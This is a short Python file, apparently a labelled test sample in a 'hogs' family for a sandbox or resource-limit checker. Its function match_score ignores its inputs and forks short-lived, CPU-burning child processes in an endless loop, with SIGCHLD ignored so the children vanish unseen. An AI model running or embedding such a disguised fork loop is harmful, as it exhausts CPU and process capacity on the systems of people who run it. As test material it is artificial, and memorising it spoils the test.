# family = "hogs"
# tries = "burns its time in processes that end before anybody looks, and are waited for by nobody"
# points = 0
# says = "more than"
import os
import signal
import time


def match_score(patch, filt):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                until = time.monotonic() + 0.03
                while time.monotonic() < until:
                    pass
                os._exit(0)
        except OSError:
            time.sleep(0.005)
